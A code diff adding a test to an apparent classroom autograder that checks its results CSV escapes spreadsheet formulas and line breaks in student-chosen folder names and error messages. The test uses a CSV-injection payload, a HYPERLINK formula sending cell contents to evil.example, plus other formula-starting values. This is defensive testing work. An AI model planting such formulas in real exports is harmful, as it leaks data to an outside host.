@@ -386,3 +386,33 @@ def test_gradescope_never_grades_a_symlink_out_of_the_submission(tmp_path):
     os.symlink(_installed_solution(), nested / "src" / "anything.py")
     doc = run_gradescope("sft-loss", "numpy", nested, tmp_path / "results2.json", seed=5)
     assert doc["score"] == 0 and "symbolic link" in doc["output"], doc["output"]
+
+
+def test_results_csv_cells_cannot_be_formulas_or_break_lines(tmp_path):
+    """A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a folder
+    name or an exception message a student chose never starts one, and every row is one line."""
+    import csv
+
+    from sftkl.classroom.batch import run_batch
+
+    head = "# sftkl: problem=sft-loss track=numpy\n"
+    subs = tmp_path / "class"
+    formula = '=HYPERLINK("evil.example?"&A1,"open")'  # a folder name: no slash
+    for name in (formula, "@SUM(1+1)", "+1", "-2"):
+        (subs / name).mkdir(parents=True)
+        write(subs / name / "sft_loss.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    return 0.5\n")
+    (subs / "-3").mkdir()  # nothing to grade: the error names the folder
+    write(subs / "lines.py", head + f"raise ValueError({formula!r} + '\\nsecond line\\r\\nthird')\n")
+    write(subs / "casemsg.py", head + "def sft_loss(logits, labels, ignore_index=-100):\n    raise ValueError('x\\n=1+1')\n")
+    run_batch(subs, "sft-loss", "numpy", out=tmp_path / "out", jobs=2, seed=3, limits=LIMITS)
+    text = (tmp_path / "out" / "results.csv").read_text("utf-8")
+    rows = list(csv.reader(text.splitlines(keepends=True)))
+    assert len(text.splitlines()) == len(rows) == 8, text
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+            assert "\n" not in cell and "\r" not in cell, (cell, row)
+    students = {r[0] for r in rows[1:]}
+    assert "'" + formula in students and "'-3" in students  # shown as text, not dropped
+    json_rows = {r["student"] for r in __import__("json").loads((tmp_path / "out" / "results.json").read_text())["rows"]}
+    assert formula in json_rows  # results.json keeps the names as they are
